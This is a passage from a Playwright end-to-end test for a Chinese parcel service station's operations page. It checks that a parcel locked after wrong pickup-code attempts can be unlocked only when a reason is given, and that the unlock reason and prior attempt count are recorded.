  await page.getByRole('link', { name: '大柘镇服务站' }).click();
  const locked = page.getByRole('region', { name: '大柘镇服务站 · 取件码错误被锁定' });
  const row = locked.locator(`tr[data-parcel="${scanned.parcelId}"]`);
  await row.waitFor();
  await page.getByRole('region', { name: '大柘镇服务站 · 在架上' }).locator('[data-count]').waitFor();
  await page.getByRole('region', { name: '大柘镇服务站 · 超过保管期' }).locator('[data-count]').waitFor();
  await noSeriousViolations(page);

  // No reason, no unlock: the API's own words, nothing changed.
  await row.getByRole('button', { name: '解锁' }).click();
  await row.getByRole('alert').waitFor();
  expect(await partner('GET', `/v1/parcels/${scanned.parcelId}`)).toMatchObject({ lockedForOps: true });
  await row.getByLabel(/解锁原因/).fill('电话核实了收件人');
  await row.getByRole('button', { name: '解锁' }).click();
  await row.waitFor({ state: 'detached' });
  expect(await partner('GET', `/v1/parcels/${scanned.parcelId}`)).toMatchObject({
    lockedForOps: false,
    wrongCodeAttempts: 0,
    lastUnlock: { reason: '电话核实了收件人', wrongCodeAttempts: 5 },
  });
});
